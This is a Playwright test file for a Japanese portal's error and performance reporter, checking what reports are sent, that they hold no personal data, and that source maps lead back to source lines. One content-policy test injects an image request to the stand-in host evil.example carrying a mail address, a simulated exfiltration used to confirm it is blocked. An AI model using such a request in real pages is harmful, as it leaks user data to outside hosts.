import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { expect, type Page } from '@playwright/test'
import { mapsEnding } from '../../tools/build/build-info'
import { framesIn, whereIs } from '../../tools/checks/where'
import { root } from '../../tools/root'
import { oddIn } from '../report-grammar'
import { goTo, pagesIn, stepThrough } from './pages'
import { heading, holdBack, logIn, spareData, test } from './portal'
import { folderOf, reporting, sites, special } from './sites'

/* A build that reports to its operator, and what finds the sources of its scripts again. */

test.use({ site: special.withReports })

const scriptsOf = (folder: string) => readdirSync(join(folder, 'assets')).filter((name) => name.endsWith('.js'))

/** The reports that a page sends, as they come. */
function reportsOf(page: Page): URLSearchParams[] {
  const reports: URLSearchParams[] = []
  page.on('request', (request) => {
    const { pathname, searchParams } = new URL(request.url())
    if (pathname === '/reports') reports.push(searchParams)
  })
  return reports
}

/** The first report of a kind, without what every report has. */
async function reported(reports: readonly URLSearchParams[], kind: string) {
  await expect.poll(() => reports.map((one) => one.get('kind'))).toContain(kind)
  const { count, build, kind: _, ...rest } = Object.fromEntries(reports.find((one) => one.get('kind') === kind) ?? [])
  expect([count, build]).toEqual(['1', special.withReports.build])
  return rest
}

const reporter = /\/assets\/reporter-[\w-]+\.js$/

/** Waits until the page has loaded the reporter. */
const hasReporter = (page: Page) =>
  expect
    .poll(() =>
      page.evaluate(() => performance.getEntriesByType('resource').some(({ name }) => name.includes('/reporter-'))),
    )
    .toBe(true)

test('REP-01 the reporter is loaded after the page stands, and is no more than 1,500 bytes', async ({
  page,
  portal,
}) => {
  await portal.startAs('individual')
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  const release = await holdBack(page, /\/assets\/Invoice-[\w-]+\.js$/)
  await page.goto('/invoice')
  await expect(page.getByRole('navigation', { name: 'メニュー', exact: true })).toBeVisible()
  await expect.poll(() => asked.some((url) => /Invoice-/.test(url))).toBe(true)
  expect(asked.filter((url) => reporter.test(url))).toEqual([])
  release()
  await expect(heading(page, 'ご請求明細')).toBeVisible()
  await expect.poll(() => asked.filter((url) => reporter.test(url))).toHaveLength(1)
  const assets = join(folderOf(special.withReports), 'assets')
  const [file = ''] = readdirSync(assets).filter((name) => /^reporter-.*\.js\.br$/.test(name))
  expect(statSync(join(assets, file)).size).toBeLessThanOrEqual(1_500)
})

for (const [name, site] of reporting ? [] : Object.entries(sites)) {
  test(`REP-01 a build without an endpoint has nothing of the reporter: ${name}`, () => {
    const folder = folderOf(site)
    expect(scriptsOf(folder).filter((script) => script.startsWith('reporter'))).toEqual([])
    for (const script of scriptsOf(folder)) {
      const code = readFileSync(join(folder, 'assets', script), 'utf8')
      expect([script, /sendBeacon|csp-violation|unhandledrejection|layout-shift|\bcall-/.exec(code)?.[0]]).toEqual([
        script,
        undefined,
      ])
    }
  })
}

test('REP-02 REP-05 an uncaught error is reported with frames that lead to the sources', async ({ page, portal }) => {
  const reports = reportsOf(page)
  await page.goto('/login')
  await expect(heading(page, 'ログイン')).toBeVisible()
  portal.watch.expects(/page error: 山田 太郎/)
  // Called by the shell at every change of page.
  await page.evaluate(() => {
    window.scrollTo = () => {
      throw new TypeError('山田 太郎')
    }
  })
  await page.getByRole('banner').getByRole('link', { name: 'CTYマイページ' }).first().click()
  const { frames = '', ...rest } = await reported(reports, 'error')
  expect(rest).toEqual({ page: 'home', name: 'TypeError' })
  // As the web server logs it: encoded.
  const [first] = framesIn(`${new URLSearchParams({ frames })}`)
  if (!first) throw new Error('no frame')
  const [file = '', line = ''] = whereIs(first).split(':')
  expect(file).toBe('src/shell/Shell.tsx')
  expect(readFileSync(join(root, file), 'utf8').split('\n')[Number(line) - 1]).toContain('window.scrollTo(0, 0)')
})

test('REP-02 a breach of the content policy is reported by the browser’s Reporting API', async ({ page, portal }) => {
  const reports = reportsOf(page)
  await page.goto('/login')
  await expect(heading(page, 'ログイン')).toBeVisible()
  portal.watch.expects(/request: https:\/\/evil\.example/)
  portal.watch.expects(/content policy: img-src/)
  portal.watch.expects(/console: .*violates the following Content Security Policy directive: "img-src/)
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/?mail=taro'
  })
  expect(await reported(reports, 'policy')).toEqual({ page: 'login', directive: 'img-src' })
})

test('REP-02 lost code is reported, although the page reloads for it', async ({ page, portal }) => {
  const reports = reportsOf(page)
  await portal.startAs('individual')
  await spareData(page)
  await page.goto('/notFound')
  await hasReporter(page)
  await page.route(/\/assets\/Invoice-[\w-]+\.js$/, (route) => route.fulfill({ status: 404, body: '' }))
  portal.watch.expects(/console: Failed to load resource/)
  portal.watch.expects(/console: .*lost/)
  await goTo(page, '/invoice')
  expect(await reported(reports, 'code')).toEqual({ page: 'invoice' })
  await expect(page.getByRole('alert')).toContainText('ページを読み込めませんでした。')
})

test('REP-02 the vitals of a visit are reported when its page is hidden', async ({ page }) => {
  const reports = reportsOf(page)
  await page.goto('/login')
  await expect(heading(page, 'ログイン')).toBeVisible()
  await hasReporter(page)
  // Entries reach the observers in the order in which these were made: the reporter's is earlier.
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        new PerformanceObserver(() => resolve()).observe({ type: 'largest-contentful-paint', buffered: true })
      }),
  )
  await page.evaluate(() => void Object.defineProperty(document, 'hidden', { value: true }))
  const hide = async () => {
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')))
    return reports.length
  }
  // What is loaded may not run yet.
  await expect.poll(hide).toBe(1)
  const { page: key, lcp, cls, inp } = await reported(reports, 'vitals')
  expect(key).toBe('login')
  expect(Number(lcp)).toBeGreaterThan(0)
  expect(Number(cls)).toBeLessThan(100)
  // Nothing was pressed.
  expect(inp).toBe('0')
})

test('REP-03 no report of a visit to every page holds more than kinds, counts and route keys', async ({
  page,
  portal,
  site,
}) => {
  test.setTimeout(120_000)
  const reports = reportsOf(page)
  const rows = await pagesIn(site)
  await page.goto('/?mail=taro%40example.jp')
  expect(await stepThrough(page, rows)).toEqual([])
  await goTo(page, '/home')
  await logIn(page, 'individual')
  await expect(page.locator('[name=userId]')).toHaveCount(0)
  expect(await stepThrough(page, rows)).toEqual([])
  await goTo(page, '/notFound')
  await expect(heading(page, 'お探しのページが見つかりません')).toBeVisible()
  portal.api.scenarios.plan('/api/invoice/certify_index', { kind: 'failure', message: '山田 太郎 様' })
  await goTo(page, '/invoice')
  await reported(reports, 'call-rejected')
  expect(reports.flatMap(oddIn)).toEqual([])
  const keys = rows.map(({ key }) => key)
  expect(reports.map((one) => one.get('page')).filter((key) => !keys.some((known) => known === key))).toEqual([])
})

test('REP-05 the maps are beside the build and not in it, and lead to file and line: 100 of 100', () => {
  const folder = folderOf(sites.cty)
  expect(readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.map'))).toEqual([])
  // A Japanese sentence that the sources hold once is in the built script at a position that leads back to its line.
  const sources = readdirSync(join(root, 'src'), { recursive: true, encoding: 'utf8' })
    .filter((name) => /\.tsx?$/.test(name) && !/brand\/(cns|nct|y3d)\//.test(name))
    .map((name) => ({ name: `src/${name}`, lines: readFileSync(join(root, 'src', name), 'utf8').split('\n') }))
  const sentences = sources.flatMap(({ name, lines }) =>
    lines.flatMap((line, at) => {
      const [, sentence] = /'([^'\\]*[ぁ-ん][^'\\]{9,})'/.exec(line) ?? []
      return sentence === undefined ? [] : [{ sentence, at: `${name}:${at + 1}` }]
    }),
  )
  const once = sentences.filter(
    ({ sentence }) => sentences.filter((other) => other.sentence.includes(sentence)).length === 1,
  )
  const found = scriptsOf(folder).flatMap((file) => {
    const code = readFileSync(join(folder, 'assets', file), 'utf8')
    return once.flatMap(({ sentence, at }) => {
      // In quotes, whose place is the literal's.
      const index = ['`', '"', "'"].map((quote) => code.indexOf(quote + sentence + quote)).find((place) => place >= 0)
      if (index === undefined) return []
      const before = code.slice(0, index).split('\n')
      return [{ at, frame: { file, line: before.length, column: (before.at(-1) ?? '').length + 1 } }]
    })
  })
  // From everywhere in the sources.
  const every = Math.floor(found.length / 100)
  const tried = found.filter((_, index) => index % every === 0).slice(0, 100)
  expect(tried).toHaveLength(100)
  const wrong = tried.flatMap(({ at, frame }) => {
    const where = whereIs(frame)
    return where.startsWith(`${at}:`) ? [] : [`${where} is ${at}`]
  })
  expect(wrong).toEqual([])
  expect(readdirSync(folder + mapsEnding).filter((name) => name.startsWith('portal-'))).toHaveLength(1)
})
